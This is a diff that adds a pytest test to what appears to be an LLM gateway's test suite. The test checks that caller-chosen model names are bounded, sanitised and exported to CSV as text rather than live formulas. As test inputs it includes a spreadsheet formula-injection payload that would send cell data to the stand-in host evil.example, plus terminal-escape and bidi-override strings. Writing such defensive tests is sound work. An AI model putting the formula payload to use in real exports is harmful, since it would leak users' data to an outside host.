@@ -7,6 +7,8 @@ official SDKs (and httpx2 for the management API and the load run).
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import signal
 import sqlite3
@@ -21,6 +23,7 @@ from typing import Any
 
 import genai_prices
 import httpx2
+import openai
 import pytest
 from conftest import (
     ALICE_IP,
@@ -672,3 +675,37 @@ def test_daily_rollups_equal_the_request_rows(load_run: LoadRun) -> None:
     assert any(r["unpriced_requests"] for r in rollups)
     assert sum(r["error_requests"] for r in rollups) == 5
     assert all(r["cost_nanodollars"] > 0 for r in rollups if r["model"] != "llama-local")
+
+
+# -- names the caller chose, in records and exports ---------------------------------------------
+
+
+def test_unrouted_models_are_recorded_bounded_and_export_as_text_not_formulas(
+    gateway: IrisgateServer, fake_llm: FakeLLM
+) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    noisy = "@SUM(1)\x1b[2J\r\n\u202e" + "m" * 5000
+    client = openai_client(gateway)
+    errors = {}
+    for model in (formula, noisy, "-2+3"):
+        with pytest.raises(openai.NotFoundError) as caught:
+            client.chat.completions.create(
+                model=model, messages=[{"role": "user", "content": "hi"}]
+            )
+        errors[model] = caught.value
+    assert fake_llm.requests == []
+    shown = "@SUM(1)\ufffd[2J\ufffd\ufffd\ufffd" + "m" * 185 + "…"
+    assert len(shown) == 200
+    assert errors[noisy].body["message"] == (  # type: ignore[index]
+        f"model '{shown}' is not served by any provider"
+    )
+    request_id = errors[noisy].response.headers["x-irisgate-request-id"]
+    assert wait_for_record(gateway, request_id)["model"] == shown
+    wait_for_record(gateway, errors["-2+3"].response.headers["x-irisgate-request-id"])
+
+    with http_from(ALICE_IP, gateway.url) as admin:
+        export = admin.get("/api/usage/export.csv")
+    assert export.status_code == 200
+    models = {row["model"] for row in csv.DictReader(io.StringIO(export.text))}
+    assert {"'" + formula, "'" + shown, "'-2+3"} <= models
+    assert not [m for m in models if m[:1] in ("=", "+", "-", "@", "\t", "\r")]
